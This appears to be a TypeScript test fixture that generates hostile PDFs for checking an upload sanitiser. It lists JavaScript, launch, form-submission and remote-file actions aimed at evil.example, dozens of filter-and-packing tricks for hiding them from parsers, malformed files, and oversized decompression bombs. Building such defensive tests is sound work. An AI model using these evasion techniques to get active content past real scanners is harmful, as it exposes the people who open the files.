import { deflateSync } from 'node:zlib'
import { base85, begin, deflated, finish, hex, join, packed, pdf, predicted, runs, script, stream } from './pdf-parts'

const action = (written: string) => pdf(`9 0 obj${written}endobj\n`)
const anywhere = '<</Names<</Names[(a)9 0 R]>>>>'

/** Objects that are refused alone or packed with others. */
const forbiddenObjects: Record<string, string> = {
  'a script': script,
  'a script in another object': '<</S/JavaScript/JS 8 0 R>>',
  'a script by its key alone': '<</JS(app.alert\\(1\\))>>',
  'a name tree of scripts': '<</JavaScript<</Names[(a)8 0 R]>>>>',
  'a program to launch': '<</S/Launch/F(x.exe)>>',
  'a remote file': '<</S/GoToR/F(http://evil.example/x.pdf)/D[0/Fit]>>',
  'an embedded file to go to': '<</S/GoToE/T<</R/C/N(x)>>>>',
  'a form to send': '<</S/SubmitForm/F<</FS/URL/F(http://evil.example)>>>>',
  'data to import': '<</S/ImportData/F(x.fdf)>>',
  'additional actions': '<</Type/Page/AA<</O 8 0 R>>>>',
  'additional actions after a comment': '<</Type/Page/AA%x\n<</O 8 0 R>>>>',
  'an attached file': '<</Type/Filespec/EF<</F 8 0 R>>>>',
  'an embedded file': '<</Type/EmbeddedFile>>',
  'a tree of embedded files': '<</EmbeddedFiles 8 0 R>>',
  'a file as an annotation': '<</Subtype/FileAttachment/FS 8 0 R>>',
  'rich media': '<</Subtype/RichMedia>>',
  'a rendition': '<</S/Rendition/OP 4>>',
  'a form of another kind': '<</AcroForm<</XFA 8 0 R>>>>',
  'escaped letters': '<</S/#4a#61vaScript/J#53(app.alert\\(1\\))>>',
  'an address to open': '<</OpenAction<</S/URI/URI(http://evil.example)>>>>',
  'an address to open, spread out': '<</OpenAction\n%x\n<</S/URI/URI(http://evil.example)>>>>',
  'an address to open after another step': '<</OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(x)>>>>>>',
  'a key that ends where only some readers see it': '<</S/JavaScript\x80/JS\xff(app.alert\\(1\\))>>',
}

const hiding: Record<string, ArrayBuffer> = {
  'packed without a type': pdf(packed(script, { dictionary: '/N 1/First 4' })),
  'packed under escaped names': pdf(
    packed(script, { dictionary: '/Type/Obj#53tm/N 1/First 4', filter: '/Filter/Fl#61teDecode' }),
  ),
  'packed under an escaped key': pdf(packed(script, { dictionary: '/#4e 1/F#69rst 4' })),
  'packed without being deflated': pdf(packed(script, { filter: '/Length 43', pack: join })),
  'packed in hexadecimal': pdf(packed(script, { filter: '/Filter/ASCIIHexDecode', pack: hex })),
  'packed in hexadecimal, without a type': pdf(
    packed(script, { dictionary: '/N 1/First 4', filter: '/Filter/AHx', pack: hex }),
  ),
  'packed in ASCII85': pdf(packed(script, { filter: '/Filter/ASCII85Decode', pack: base85 })),
  'packed in run lengths': pdf(packed(script, { filter: '/Filter/RunLengthDecode', pack: runs })),
  'packed in run lengths, without a type': pdf(
    packed(script, { dictionary: '/N 1/First 4', filter: '/Filter[/RL]', pack: runs }),
  ),
  'deflated, then in hexadecimal': pdf(
    packed(script, { filter: '/Filter[/ASCIIHexDecode/FlateDecode]', pack: (text) => hex(deflated(text)) }),
  ),
  'deflated, then in ASCII85, without a type': pdf(
    packed(script, { dictionary: '/N 1/First 4', filter: '/Filter[/A85/Fl]', pack: (text) => base85(deflated(text)) }),
  ),
  'deflated twice': pdf(packed(script, { filter: '/Filter[/Fl/Fl]', pack: (text) => deflated(deflated(text)) })),
  'behind a predictor': pdf(
    packed(script, { filter: '/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>', pack: predicted }),
  ),
  'behind a predictor in another object': pdf(
    packed(script, { filter: '/Filter/FlateDecode/DecodeParms 8 0 R', pack: predicted }),
  ),
  'behind a filter in another object': pdf(
    '8 0 obj/ASCIIHexDecode endobj\n',
    packed(script, { filter: '/Filter 8 0 R', pack: hex }),
  ),
  'behind a filter that is written twice': pdf(
    packed(script, { filter: '/Filter/FlateDecode/Filter/ASCIIHexDecode', pack: hex }),
  ),
  'behind a filter of encryption': pdf(packed(script, { filter: '/Filter[/Crypt/FlateDecode]' })),
  'in LZW': pdf(packed('', { filter: '/Filter/LZWDecode', pack: () => Uint8Array.of(0x80, 0x0b, 0x60, 0x50) })),
  'in another file': pdf(packed('', { filter: '/F(http://evil.example/x)' })),
  'after a leading NUL': pdf(packed(script, { before: '\x009 0 ', dictionary: '/N 1/First 5' })),
  'after a leading plus': pdf(packed(script, { before: '+9 +0 ', dictionary: '/N 1/First 6' })),
  'after a comment in the table': pdf(packed(script, { before: '%x\n9 0 ', dictionary: '/N 1/First 7' })),
  'behind a dictionary that seems to begin again': pdf(
    packed(script, { dictionary: '/Type/ObjStm/N 1/First 4/X( obj)' }),
  ),
  'behind an end that is none': pdf(
    packed('', {
      pack: () => deflateSync(join(`9 0 <</A(endstream)>> ${script}`), { level: 0 }),
    }),
  ),
  'behind an end that is none, not deflated': pdf(
    packed('', { filter: '/Length 63', pack: () => join(`9 0 <</A(endstream endobj )/B ${script}>>`) }),
  ),
  'in a stream whose beginning readers see differently': pdf(
    stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflated(`9 0 ${script}`), 'stream\r'),
  ),
  'damaged while packed': pdf(packed('', { pack: () => Uint8Array.of(0x78, 0x9c, 1, 2, 3) })),
  'inside a picture': pdf(stream('/Subtype/Image', `x\n9 0 obj${script}endobj\n`)),
  'inside a picture, with comments between': pdf(stream('/Subtype/Image', `x\n9 % 1\r0%\r\nobj${script}endobj\n`)),
  'inside a picture, with signs and odd blanks': pdf(stream('/Subtype/Image', `x\n+9\x80+0\0obj${script}endobj\n`)),
  'inside a string': pdf(`8 0 obj(\n9 0 obj${script}endobj\n)endobj\n`),
  'inside a comment': pdf(`%9 0 obj${script}endobj\n`),
  'inside a stream that is a comment': pdf(`%stream\n9 0 obj${script}endobj\n%endstream\n`),
  'inside a stream that is a string': pdf('9 0 obj<</A(stream\n)/S/JavaScript/B(endstream)>>endobj\n'),
  'a trailer in a comment': pdf('%trailer<</Root<</AcroForm 9 0 R>>>>\n'),
  'before the header': join(`9 0 obj${script}endobj\n`, begin, finish).buffer,
  'before the header, as a name alone': join('<</OpenAction<</S/Launch>>>>\n', begin, finish).buffer,
  'in an object that starts before the header': join('9 0 ', begin.replace('\n', `\nobj${script}endobj\n`), finish)
    .buffer,
  'a trailer before the header': join('trailer', begin.replace('\n', '\n<</Root<</AcroForm 9 0 R>>>>'), finish).buffer,
  'after the end': join(begin, finish, `9 0 obj${script}endobj\n`).buffer,
  'after the end, as a name alone': join(begin, finish, '<</OpenAction<</S/Launch>>>>\n').buffer,
  'in an object that starts before the end': join(begin, finish.replace('%%EOF', '9 0 %%EOF'), `obj${script}endobj`)
    .buffer,
  'a trailer after the end': join(begin, finish, 'trailer<</Root<</AcroForm 9 0 R>>>>').buffer,
  'an object after the end': join(begin, finish, '9 0 obj<</Type/Catalog>>endobj\n').buffer,
  'an address to open in another object': pdf('8 0 obj<</OpenAction 9 0 R>>endobj\n9 0 obj<</S/URI/URI(x)>>endobj\n'),
  'an address to open, packed': pdf('8 0 obj<</OpenAction 9 0 R>>endobj\n', packed('<</S/URI/URI(x)>>')),
  'an address to open, in a later version': pdf(
    '8 0 obj<</OpenAction 9 0 R>>endobj\n9 0 obj[3 0 R/Fit]endobj\n%%EOF\n9 0 obj<</S/URI/URI(x)>>endobj\n',
  ),
}

const broken: Record<string, ArrayBuffer> = {
  'a header behind more than a kilobyte': join(' '.repeat(1_030), begin, finish).buffer,
  'an encrypted file': join(begin, 'trailer<</Root 1 0 R/Encrypt 5 0 R>>\n%%EOF\n').buffer,
  'an encrypted file, escaped': join(begin, 'trailer<</Root 1 0 R/#45ncrypt 5 0 R>>\n%%EOF\n').buffer,
  'an encrypted file with a table of references': pdf(stream('/Type/XRef/Root 1 0 R/Encrypt 5 0 R', 'x')),
  'a file without objects': join('%PDF-1.7\nhello\n%%EOF\n').buffer,
  'a file without an end': join(begin, finish.replace('%%EOF', '')).buffer,
  'a file cut within an object': join(begin, '9 0 obj<</A 1', '\n%%EOF\n').buffer,
  'a file cut within a string': join(begin, '9 0 obj(abc', '\n%%EOF\n').buffer,
  'a file cut within a stream': join(begin, '9 0 obj<<>>stream\nabc', '\n%%EOF\n').buffer,
  'brackets that do not match': action('[<<]>>'),
  'a hexadecimal string of other letters': action(`<41 /S ${'zz'}>`),
  'objects within objects': action('<</A 8 0 obj'),
  'nested too deeply': action('['.repeat(2000) + ']'.repeat(2000)),
}

/** Small and hard files, or as large as an upload may be: accepted or not, each must cost little. */
export const heavyPdfs: Record<string, () => ArrayBuffer> = {
  'too large unpacked': () => pdf(packed(' '.repeat(20_000_000))),
  'too large unpacked together': () => pdf(...Array.from({ length: 30 }, () => packed(' '.repeat(1_000_000)))),
  'too many packed streams': () => pdf(...Array.from({ length: 3_000 }, () => packed('null'))),
  'too many streams': () => pdf('9 0 obj<<>>stream\nendstream endobj\n'.repeat(60_000)),
  'too many objects': () => pdf('9 0 obj 1 endobj\n'.repeat(310_000)),
  'too many trailers': () => pdf('trailer<<>>\n'.repeat(2_000)),
  'too many openings': () => pdf('9 0 obj<</OpenAction null>>endobj\n'.repeat(200)),
}

export const hostilePdfs = (): Record<string, ArrayBuffer> => ({
  ...Object.fromEntries(Object.entries(forbiddenObjects).map(([name, object]) => [name, action(object)])),
  ...Object.fromEntries(
    Object.entries(forbiddenObjects).map(([name, object]) => [`${name}, packed`, pdf(packed(object))]),
  ),
  ...Object.fromEntries(
    Object.entries(forbiddenObjects).map(([name, object]) => [
      `${name}, nested and packed without a type`,
      pdf(packed(`[${anywhere} ${object}]`, { dictionary: '/First 4/N 1' })),
    ]),
  ),
  ...hiding,
  ...broken,
})
